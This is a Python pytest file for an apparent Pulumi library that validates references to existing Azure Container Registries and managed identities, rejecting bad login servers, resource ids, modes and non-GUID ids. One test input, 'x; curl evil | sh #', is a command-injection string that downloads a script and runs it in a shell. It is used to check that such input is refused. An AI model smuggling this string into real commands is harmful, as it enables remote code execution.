"""References written by hand, to a registry and an identity that exist already."""

from collections.abc import Callable
from typing import Any, cast

import pulumi
import pytest
from acr_patterns import ContainerGroup, PullIdentity
from acr_patterns.errors import ArgumentError
from acr_patterns.references import (
    PullIdentityReference,
    RegistryReference,
    checked_identity,
    checked_registry,
    existing_registry,
)
from acr_patterns.testing import simulate
from existing import IDENTITY, REGISTRY
from programs import CONTAINER, CONTAINER_GROUP, shop

WHERE = "ContainerGroup 'api'"

known_or_not = pytest.mark.parametrize("known", [True, False], ids=["known at once", "known while deploying"])


def registry(**changes: Any) -> RegistryReference:
    return checked_registry(WHERE, cast(RegistryReference, {**REGISTRY, **changes}))


def identity(**changes: Any) -> PullIdentityReference:
    return checked_identity(WHERE, cast(PullIdentityReference, {**IDENTITY, **changes}))


def refusal(check: Callable[..., object], known: bool, **change: str | None) -> str:
    def program() -> None:
        check(**change if known else {key: pulumi.Output.from_input(value) for key, value in change.items()})

    with pytest.raises(ArgumentError) as refused:
        simulate(program)
    return str(refused.value)


def test_a_reference_is_complete_when_it_is_checked() -> None:
    assert registry() == {**REGISTRY, "authentication": "ManagedIdentity"}
    assert identity() == IDENTITY


@known_or_not
@pytest.mark.parametrize(
    "server", ["", "shop", "https://shop.azurecr.io", "shop.azurecr.io/", "shop.azurecr.io/api", "a b.io", "x.io\n"]
)
def test_a_login_server_that_is_no_host_name_is_refused_with_how_to_find_it(server: str, known: bool) -> None:
    message = refusal(registry, known, login_server=server)
    assert message.startswith(f"{WHERE}: registry login_server {server!r} is not a host name; give it as Azure does")


@pytest.mark.parametrize("server", ["contoso42.azurecr.io", "Contoso42.azurecr.us", "contoso42-ab1c.azurecr.cn"])
def test_a_login_server_is_of_any_cloud_and_may_have_a_hash(server: str) -> None:
    assert registry(login_server=server)["login_server"] == server


@known_or_not
@pytest.mark.parametrize("server", ["contoso4.azurecr.io", "contoso421.azurecr.io", "x.contoso42.azurecr.io"])
def test_a_login_server_of_another_registry_is_refused(server: str, known: bool) -> None:
    message = refusal(registry, known, login_server=server)
    assert message.startswith(f"{WHERE}: registry login_server {server!r} is not that of the registry 'contoso42'")
    assert "az acr show --name contoso42 --query loginServer" in message


@known_or_not
def test_an_existing_registry_is_a_reference_that_is_checked_where_it_is_made(known: bool) -> None:
    def existing(**changes: Any) -> RegistryReference:
        return existing_registry(**cast(Any, {**REGISTRY, **changes}))

    assert existing() == {**REGISTRY, "authentication": "ManagedIdentity"}
    message = refusal(existing, known, id="contoso42")
    assert message.startswith("existing_registry: registry id 'contoso42' is not the resource id of a registry; it has")


def test_an_existing_registry_is_described_as_fully_as_one_that_is_made_here() -> None:
    known = {
        "sku": "Premium",
        "network": {"access": "Private"},
        "authentication": "AdminUser",
        "data_endpoint_enabled": False,
    }
    assert set(REGISTRY) | set(known) == set(RegistryReference.__annotations__)
    assert existing_registry(**cast(Any, {**REGISTRY, **known})) == {**REGISTRY, **known}


@known_or_not
@pytest.mark.parametrize(
    ("field", "sentence"),
    [
        ("id", "registry id a value of type NoneType is not the resource id of a registry; it has the form"),
        ("login_server", "registry login_server a value of type NoneType is not a host name; give it as Azure does"),
    ],
)
def test_an_existing_registry_needs_id_and_login_server(field: str, sentence: str, known: bool) -> None:
    def existing(**changes: Any) -> RegistryReference:
        return existing_registry(**cast(Any, {**REGISTRY, **changes}))

    assert refusal(existing, known, **{field: None}).startswith(f"existing_registry: {sentence}")


@pytest.mark.parametrize(("check", "field"), [(registry, "id"), (registry, "login_server"), (identity, "id")])
def test_what_is_refused_once_it_is_known_goes_nowhere(check: Callable[..., Any], field: str) -> None:
    taken: list[str] = []

    def program() -> None:
        reference = check(**{field: pulumi.Output.from_input("wrong")})
        reference[field].apply(taken.append)

    with pytest.raises(ArgumentError, match="'wrong' is not"):
        simulate(program)
    assert taken == []


@pytest.mark.parametrize(
    ("mode", "sentence"),
    [
        (None, "role_assignment_mode is missing, and a registry silently ignores roles of the wrong kind; give Legacy"),
        ("Abac", "registry role_assignment_mode is 'Abac', which is not one of LegacyRegistryPermissions, Abac"),
    ],
)
def test_an_existing_registry_needs_its_mode(mode: Any, sentence: str) -> None:
    with pytest.raises(ArgumentError) as refused:
        existing_registry(REGISTRY["id"], REGISTRY["login_server"], mode)
    assert str(refused.value).startswith(f"existing_registry: {sentence}")


@known_or_not
def test_a_registry_that_is_something_else_is_refused(known: bool) -> None:
    message = refusal(registry, known, id=IDENTITY["id"])
    assert message.startswith(
        f"{WHERE}: registry id {IDENTITY['id']!r} is not the resource id of a registry, but of a resource of type "
        "Microsoft.ManagedIdentity/userAssignedIdentities; it has the form"
    )


@known_or_not
@pytest.mark.parametrize("wrong", ["", "puller", IDENTITY["client_id"], REGISTRY["id"], IDENTITY["id"] + "/"])
def test_an_identity_that_is_something_else_is_refused_with_how_to_find_it(wrong: str, known: bool) -> None:
    message = refusal(identity, known, id=wrong)
    assert message.startswith(f"{WHERE}: pull_identity id {wrong!r} is not the resource id of a user-assigned identity")
    assert "az identity show" in message


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"role_assignment_mode": "abac"}, "registry role_assignment_mode is 'abac', which is not one of"),
        ({"authentication": "Admin"}, "registry authentication is 'Admin', which is not one of"),
    ],
)
def test_a_mode_or_an_authentication_that_is_unknown_is_refused(change: dict[str, str], sentence: str) -> None:
    with pytest.raises(ArgumentError, match=sentence):
        registry(**change)


@known_or_not
@pytest.mark.parametrize("field", ["client_id", "principal_id"])
@pytest.mark.parametrize("wrong", ["puller", "x; curl evil | sh #", "11111111-1111-1111-1111-11111111111g"])
def test_ids_that_go_into_commands_are_guids(field: str, wrong: str, known: bool) -> None:
    message = refusal(identity, known, **{field: wrong})
    assert message.startswith(f"{WHERE}: pull_identity {field} {wrong!r} is not a GUID; give it as `az identity show")


def test_a_registry_that_exists_already_is_used_like_one_of_ours() -> None:
    azure = simulate(shop()).azure
    [registry] = azure.of_type("Microsoft.ContainerRegistry/registries")
    image = azure.runs[0].images[0]

    def program() -> None:
        name = registry["id"].split("/")[4]
        reference: Any = {
            "id": registry["id"],
            "login_server": registry["properties"]["loginServer"],
            "role_assignment_mode": "LegacyRegistryPermissions",
        }
        identity = PullIdentity("second", resource_group_name=name, registry=reference)
        pinned: Any = {**CONTAINER, "image": f"{image['registry']}/{image['repository']}@{image['digest']}"}
        ContainerGroup(
            "second",
            resource_group_name=name,
            registry=reference,
            pull_identity=identity.reference,
            containers=[pinned],
        )

    assert simulate(program, azure=azure, stack="prod").resource(CONTAINER_GROUP).name == "second"
